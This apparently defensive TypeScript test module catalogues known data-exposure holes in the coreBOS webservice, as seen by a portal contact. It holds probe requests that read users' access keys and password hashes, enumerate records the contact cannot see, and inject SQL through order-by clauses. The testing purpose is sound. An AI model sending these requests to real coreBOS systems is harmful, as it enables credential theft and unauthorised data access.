/** What coreBOS is known to leave open to a contact that reads, each hole by a name of its own. */
import type { Attempt } from './attempt.ts'
import type { FindingKind } from './judge.ts'
import type { Call } from './operations.ts'
import type { Maker } from './pick.ts'
import { openModules, type Person } from './scope.ts'
import type { Parameters } from './webservice.ts'
import type { World } from './world.ts'

/** A hole that one answer shows. */
export interface Hole {
  readonly name: string
  /** Kinds of findings, any of which proves it. */
  readonly shownBy: readonly FindingKind[]
  readonly calls: readonly Call[]
}

/** A hole that two answers show: the requests differ in something that must make no difference. */
export interface Pair {
  readonly name: string
  readonly first: Parameters
  readonly second: Parameters
  readonly what: string
}

const query = (statement: string): Parameters => ({ operation: 'query', query: statement })

function hole(
  name: string,
  shownBy: readonly FindingKind[],
  calls: readonly Parameters[],
  known: Partial<Attempt> = { modules: openModules },
): Hole {
  return { name, shownBy, calls: calls.map((parameters) => ({ label: name, parameters, known })) }
}

/** Searches by a part of a name, and the fields that they search. */
const named: Readonly<Record<string, readonly [field: string, part: string]>> = {
  ProjectMilestone: ['projectmilestonename', 'mile'],
  Leads: ['lastname', 'ead'],
  Vendors: ['vendorname', 'end'],
}

export function knownHoles({ world, scope }: Maker): Hole[] {
  const closed = (module: string): string[] =>
    (world.byModule.get(module) ?? []).filter((record) => !scope.sees(record)).map(({ id }) => id)
  const own = (module: string): string => scope.of(module)[0]?.id ?? ''
  const restrictionids = JSON.stringify(restriction(world, scope.person))
  return [
    hole(
      'fields of Users in a select list',
      ['field'],
      ['Users.accesskey', 'Users.user_hash', 'ticket_title,Users.accesskey', 'Users.email1'].map((path) =>
        query(`select ${path} from HelpDesk`),
      ),
      { modules: ['HelpDesk'] },
    ),
    ...['ProjectMilestone', 'Leads', 'Vendors', 'cbTermConditions'].flatMap((module) => [
      hole(
        `count(*) over ${module}`,
        ['count'],
        [
          query(`select count(*) from ${module}`),
          query(`select count(*) from ${module} where (id is not null)`),
        ],
        { modules: [module] },
      ),
      hole(`totalrows of ${module}`, ['count'], [query(`select id from ${module} limit 1`)], {
        modules: [module],
      }),
    ]),
    ...['LoginHistory', 'Workflow', 'Groups', 'CompanyDetails', 'Users'].map((module) =>
      hole(
        `query on ${module}`,
        ['row'],
        [query(`select * from ${module}`), query(`select count(*) from ${module}`)],
        {
          modules: [module],
        },
      ),
    ),
    ...['Faq', 'LoginHistory', 'Workflow'].flatMap((module) => [
      hole(
        `retrieve of ${module}`,
        ['row'],
        closed(module).map((id) => ({ operation: 'retrieve', id })),
      ),
      hole(
        `MassRetrieve of ${module}`,
        ['row'],
        [{ operation: 'MassRetrieve', ids: closed(module).join(',') }],
      ),
    ]),
    ...Object.entries(named).flatMap(([module, [field, part]]) => [
      hole(
        `search in ${module}`,
        ['row', 'value', 'count'],
        ['getSearchResults', 'getSearchResultsArray', 'getSearchResultsArrayWithTotals'].map((operation) => ({
          operation,
          query: part,
          search_onlyin: module,
          restrictionids,
        })),
      ),
      hole(`getFieldAutocomplete in ${module}`, ['row'], [fieldAutocomplete(module, field, part, field)]),
      hole(`getReferenceAutocomplete in ${module}`, ['row'], [referenceAutocomplete(module, part)]),
    ]),
    hole(
      'users by autocomplete',
      ['row', 'value'],
      [fieldAutocomplete('Users', 'user_name', 'a', 'user_name,email1'), referenceAutocomplete('Users', 'a')],
    ),
    hole(
      'deleted records by sync',
      ['row'],
      ['HelpDesk', 'Contacts', 'Invoice', 'Documents', ''].map((elementType) => ({
        operation: 'sync',
        modifiedTime: '1577836800',
        elementType,
      })),
    ),
    hole(
      'showqueryfromwsdoquery',
      ['value'],
      [{ operation: 'showqueryfromwsdoquery', query: 'select ticket_title from HelpDesk' }],
      { secret: 'the SQL of a statement' },
    ),
    hole('getAllUsers', ['value'], [{ operation: 'getAllUsers' }]),
    hole('getAssignedUserList', ['value'], [{ operation: 'getAssignedUserList', module: 'HelpDesk' }]),
    hole(
      'addresses of files',
      ['field'],
      [{ operation: 'retrieve', id: own('Documents') }, query('select * from Documents')],
    ),
    // Not holes of coreBOS itself; a service in front of it must close them as well.
    hole(
      'records of others by id',
      ['row'],
      ['Contacts', 'Accounts', 'HelpDesk', 'Invoice', 'Documents', 'Project', 'ModComments'].flatMap(
        (module) =>
          closed(module)
            .slice(0, 3)
            .flatMap((id) => [
              { operation: 'retrieve', id },
              query(`select * from ${module} where id='${id}'`),
            ]),
      ),
    ),
  ]
}

/** What a search of coreBOS wants to be told: who is asking, as the session has it. */
function restriction(world: World, { contact, account }: Person): Readonly<Record<string, string>> {
  const user = world.records.get(contact)?.values.get('portalloginuser') ?? ''
  const prefix = (module: string): string => world.modules.get(module)?.idPrefix ?? ''
  return {
    userId: user.includes('x') ? user : `${prefix('Users')}x${user}`,
    accountId: account === '' ? `${prefix('Accounts')}x0` : account,
    contactId: contact,
  }
}

function fieldAutocomplete(module: string, fields: string, term: string, returnfields: string): Parameters {
  return {
    operation: 'getFieldAutocomplete',
    term,
    filter: 'contains',
    searchinmodule: module,
    fields,
    returnfields,
    limit: '50',
  }
}

function referenceAutocomplete(module: string, term: string): Parameters {
  return {
    operation: 'getReferenceAutocomplete',
    term,
    filter: 'contains',
    searchinmodules: module,
    limit: '50',
  }
}

export function knownPairs({ scope }: Maker): Pair[] {
  const { contact } = scope.person
  const ordered = (order: string): Parameters =>
    query(`select ticket_title from HelpDesk where (ticket_title like '%t%') order by ${order} limit 50;`)
  const related = (condition: string): Parameters =>
    query(`select ticket_title from HelpDesk where related.Contacts='${contact}' and ${condition} ;`)
  const list = (orderby: string): Parameters => ({
    operation: 'getRelatedRecords',
    id: contact,
    module: 'Contacts',
    relatedModule: 'HelpDesk',
    queryParameters: JSON.stringify({ columns: 'title', orderby }),
  })
  const rows = query('select ticket_title from HelpDesk')
  const sql = 'SQL of the contact was evaluated'
  return [
    {
      name: 'SQL in an order by',
      first: ordered('(ticketid*1)'),
      second: ordered('(ticketid*-1)'),
      what: sql,
    },
    {
      name: 'SQL in the orderby of getRelatedRecords',
      first: list('ticketid*-1'),
      second: list('ticketid'),
      what: sql,
    },
    {
      name: 'SQL behind related.X',
      first: related('ticketid*1 > 0'),
      second: related('ticketid*1 < 0'),
      what: sql,
    },
    {
      name: 'format=streamraw',
      first: { ...rows, format: 'streamraw' },
      second: rows,
      what: 'rows that were not sanitised',
    },
  ]
}
